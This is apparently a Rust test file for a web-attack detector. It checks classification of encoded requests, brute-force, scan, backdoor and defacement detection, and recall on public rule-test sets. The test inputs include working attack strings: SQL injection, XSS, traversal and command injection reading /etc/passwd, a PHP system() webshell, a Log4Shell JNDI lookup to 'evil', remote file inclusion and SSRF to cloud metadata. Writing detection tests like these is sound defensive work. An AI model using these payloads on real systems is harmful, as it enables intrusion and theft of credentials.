//! Web attack detection: parsers on hand-written lines, classifier behaviour,
//! and the evaluation on the real labelled sets in ../shared/data/web.

use std::borrow::Cow;

use c2atlas::detect::web::{Class, WebDetector, WebDetectorConfig, classify, eval};
use c2atlas::ingest::weblog::{self, WebLogFormat, WebRequest};

use crate::common;

fn get(uri: &str) -> WebRequest<'static> {
    WebRequest {
        uri: Cow::Owned(uri.to_owned()),
        ..WebRequest::default()
    }
}

#[test]
fn classifies_encoded_attacks_with_decoded_evidence() {
    let cases: &[(&str, Class)] = &[
        (
            "/item.php?id=1%2527%2520UNION%2520SELECT%2520user,pass%2520FROM%2520users--",
            Class::Sqli,
        ),
        ("/search?q=%3Csvg%2Fonload%3Dalert(1)%3E", Class::Xss),
        (
            "/download?f=..%252f..%252f..%252fetc%252fpasswd",
            Class::Traversal,
        ),
        ("/index.php?page=http://203.0.113.9/shell.txt?", Class::Rfi),
        ("/ping?host=127.0.0.1%3Bcat%20/etc/passwd", Class::Rce),
        (
            "/x.php?a=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E",
            Class::Php,
        ),
        (
            "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
            Class::Java,
        ),
        (
            "/fetch?url=http://169.254.169.254/latest/meta-data/",
            Class::Ssrf,
        ),
        ("/uploads/c99.php", Class::Webshell),
        ("/.git/config", Class::Scanner),
    ];
    for (uri, class) in cases {
        let v = classify(&get(uri)).unwrap_or_else(|| panic!("{uri} not flagged"));
        assert!(v.has(*class), "{uri}: {:?}", v.hits);
        assert!((0.0..=1.0).contains(&v.confidence()));
        assert!(
            !v.evidence().contains("%25"),
            "evidence is decoded: {}",
            v.evidence()
        );
    }
    let v = classify(&get(
        "/item.php?id=1%2527%2520UNION%2520SELECT%2520user,pass%2520FROM%2520users--",
    ))
    .unwrap();
    assert!(
        v.evidence().to_lowercase().contains("union select"),
        "{}",
        v.evidence()
    );
}

#[test]
fn benign_requests_are_not_flagged() {
    for uri in [
        "/",
        "/index.html",
        "/search?q=rock+and+roll&page=2",
        "/products?id=42&sort=price_desc",
        "/blog/2024/01/o-reilly-and-sons",
        "/api/v1/users/17?fields=name,email",
        "/static/app.3f2a1b.js",
        "/login?next=%2Fdashboard",
        "/search?q=select+a+size",
        "/news?title=Tom+%26+Jerry",
    ] {
        assert!(
            classify(&get(uri)).is_none(),
            "{uri}: {:?}",
            classify(&get(uri))
        );
    }
    let r = WebRequest {
        user_agent: Some(Cow::Borrowed("sqlmap/1.7.2#stable (https://sqlmap.org)")),
        ..get("/")
    };
    assert!(classify(&r).is_some_and(|v| v.has(Class::Scanner)));
    let r = WebRequest {
        headers: vec![(
            Cow::Borrowed("Authorization"),
            Cow::Borrowed("Basic YWRtaW46JyBvciAnMSc9JzE="),
        )],
        ..get("/admin")
    };
    assert!(
        classify(&r).is_some_and(|v| v.has(Class::Sqli)),
        "base64 Basic auth is decoded"
    );
}

#[test]
fn stateful_bruteforce_scan_and_backdoor() {
    let mut d = WebDetector::new(WebDetectorConfig {
        backdoor_warmup: 10,
        ..WebDetectorConfig::default()
    });
    let attacker: std::net::IpAddr = "203.0.113.50".parse().unwrap();
    let ctl: std::net::IpAddr = "198.51.100.66".parse().unwrap();
    let mut bf = 0;
    for i in 0..30 {
        let r = WebRequest {
            src: attacker,
            ts: i * 1_000_000,
            method: Cow::Borrowed("POST"),
            status: Some(200),
            ..get("/wp-login.php")
        };
        if d.observe(&r, "site")
            .is_some_and(|v| v.has(Class::Bruteforce))
        {
            bf += 1;
        }
    }
    assert_eq!(bf, 11, "flagged from the 20th POST on");
    let mut scan = false;
    for (i, p) in [
        "/.env",
        "/.git/config",
        "/phpinfo.php",
        "/backup.sql",
        "/.aws/credentials",
        "/server-status",
        "/db.sql",
        "/.svn/entries",
        "/info.php",
        "/test.php",
    ]
    .iter()
    .enumerate()
    {
        let r = WebRequest {
            src: attacker,
            ts: 40_000_000 + i as i64,
            status: Some(404),
            ..get(p)
        };
        scan = d
            .observe(&r, "site")
            .is_some_and(|v| v.hits.iter().any(|h| h.rule.contains("404s")));
    }
    assert!(scan, "10th probe 404 is a scan burst");
    for i in 0..5 {
        let r = WebRequest {
            src: ctl,
            ts: 50_000_000 + i,
            method: Cow::Borrowed("POST"),
            status: Some(200),
            ..get("/images/x1.php")
        };
        d.observe(&r, "site");
    }
    let b = d.backdoors();
    assert_eq!(b.len(), 1, "{b:?}");
    assert_eq!(b[0].path, "/images/x1.php");
    assert_eq!(b[0].controller_ips, vec![ctl]);
}

#[test]
fn defacement_is_a_stable_page_served_at_a_new_size() {
    let mut d = WebDetector::new(WebDetectorConfig::default());
    let page = |i: u64, bytes: u64| WebRequest {
        src: format!("198.51.100.{}", i % 200).parse().expect("ip"),
        ts: i as i64 * 1_000_000,
        status: Some(200),
        bytes,
        rec: i + 1,
        ..get("/index.html")
    };
    // A home page of about 20 KB (ads and dates vary it a little), and a
    // dynamic search page whose size varies a lot.
    for i in 0..100u64 {
        d.observe(&page(i, 20_000 + (i * 37) % 900), "site");
        let s = WebRequest {
            bytes: 1_000 + (i * 7919) % 40_000,
            ..page(i, 0)
        };
        d.observe(
            &WebRequest {
                uri: Cow::Borrowed("/search"),
                ..s
            },
            "site",
        );
    }
    // One error page is not a defacement.
    d.observe(&page(100, 1_200), "site");
    d.observe(&page(101, 20_300), "site");
    assert!(d.defacements().is_empty());
    // Then the page is replaced by a 1.5 KB "hacked by" page.
    for i in 102..110u64 {
        d.observe(&page(i, 1_500), "site");
    }
    let f = d.defacements();
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].path, "/index.html");
    assert_eq!(f[0].first_rec, 103);
    assert_eq!(f[0].new_bytes, 1_500);
    assert!((20_000..21_000).contains(&f[0].baseline_bytes));
}

#[test]
fn web_log_with_bad_lines_keeps_good_ones() {
    let text = b"203.0.113.9 - - [10/Oct/2000:13:55:36 -0700] \"GET /?id=1'%20or%201=1-- HTTP/1.1\" 200 1 \"-\" \"x\"\n\
\x00\x01garbage\n\
{\"remote_addr\":\"1.2.3.4\"}\n\
203.0.113.9 - - [10/Oct/2000:13:55:37 -0700] \"GET /ok HTTP/1.1\" 200 1 \"-\" \"x\"\n";
    let mut flagged = 0;
    let mut reqs = 0;
    let mut bad = Vec::new();
    let st = weblog::read_bytes(
        text,
        WebLogFormat::Clf,
        &mut |r| {
            reqs += 1;
            flagged += classify(r).is_some() as u32;
        },
        &mut |l, e| bad.push((l, e.to_string())),
    );
    assert_eq!((reqs, flagged, st.malformed), (2, 1, 2));
    assert_eq!(bad.iter().map(|b| b.0).collect::<Vec<_>>(), vec![2, 3]);
}

// Targets (issue 4): CRS recall ≥ 0.95 per group and ≥ 0.95 of negatives not
// flagged; libinjection SQLi/XSS recall ≥ 0.97, false-positive list ≤ 1 %.
// The thresholds below are the levels reached (slightly under the measured
// values) so that regressions fail; see docs/evaluation-web.md.
const CRS_FLOOR: &[(&str, f64, f64)] = &[
    // (group, min recall, min share of negatives not flagged)
    ("942", 0.65, 0.93),
    ("941", 0.78, 0.9),
    ("930", 0.87, 0.99),
    ("931", 0.55, 0.99),
    ("932", 0.77, 0.9),
    // PHP function calls of the full built-in list (e.g. `filemtime($foo)`) are flagged
    // although three CRS negatives (rules 933151-933153, paranoia levels apart) expect
    // no PHP alert for them: recall 0.59 -> 0.87 for 0.877 -> 0.851 of the negatives.
    ("933", 0.87, 0.85),
    ("944", 0.98, 0.99),
];

#[test]
fn eval_on_crs_regression_tests() {
    let Some(dir) = common::shared("web/coreruleset-regression-tests") else {
        return;
    };
    let scores = eval::eval_crs(&dir).expect("CRS tests readable");
    for (g, recall, spec) in CRS_FLOOR {
        let s = scores.iter().find(|s| s.group == *g).expect("group scored");
        eprintln!(
            "{g}: recall {:.3} ({}/{}), clean negatives {:.3} ({})",
            s.recall(),
            s.detected,
            s.positives,
            s.specificity(),
            s.negatives
        );
        assert!(s.positives > 20, "{g} has positives");
        assert!(
            s.pl1_positives > 0 && s.pl1_positives <= s.positives,
            "{g}: paranoia-level-1 positives are a subset"
        );
        assert!(
            s.recall() >= *recall,
            "{g} recall {:.3} < {recall}",
            s.recall()
        );
        assert!(
            s.negatives == 0 || s.specificity() >= *spec,
            "{g} specificity {:.3} < {spec}",
            s.specificity()
        );
    }
}

#[test]
fn eval_on_libinjection_lists() {
    let Some(dir) = common::shared("web/libinjection/data") else {
        return;
    };
    let lists = eval::eval_libinjection(&dir).expect("lists readable");
    let [sqli, xss, fp] = &lists[..] else {
        panic!("three lists")
    };
    eprintln!(
        "sqli {:.4} ({}), xss {:.4} ({}), fp {:.4} ({})",
        sqli.rate(),
        sqli.inputs,
        xss.rate(),
        xss.inputs,
        fp.rate(),
        fp.inputs
    );
    assert!(sqli.inputs > 10_000 && xss.inputs > 1_000 && fp.inputs > 300);
    assert!(sqli.rate() >= 0.97, "target 0.97");
    assert!(xss.rate() >= 0.97, "target 0.97");
    assert!(fp.rate() <= 0.008, "target 0.01");
}

// Benign real HTTP (Zeek http.log rows from the shared sets) → WebRequest via
// `weblog::zeek::from_http`; target FPR ≤ 0.1 % of requests. Measured 0.03 %
// (10 of 37,949), of which half are real probes in those captures (Log4Shell
// JNDI user agents, CensysInspect, a `/.git/config` fetch).
#[test]
fn eval_on_benign_zeek_http() {
    let mut logs = Vec::new();
    for d in eval::BENIGN_HTTP_DIRS {
        if let Some(dir) = common::shared(d) {
            logs.extend(eval::http_logs(&dir));
        }
    }
    if logs.is_empty() {
        return;
    }
    let s = eval::eval_benign_http(&logs).expect("http logs readable");
    eprintln!(
        "benign: {} of {} flagged ({:.4})",
        s.flagged,
        s.inputs,
        s.rate()
    );
    assert!(s.inputs > 30_000, "{} requests", s.inputs);
    assert!(
        s.rate() <= 0.0005,
        "benign FPR {:.4} (target 0.001)",
        s.rate()
    );
}
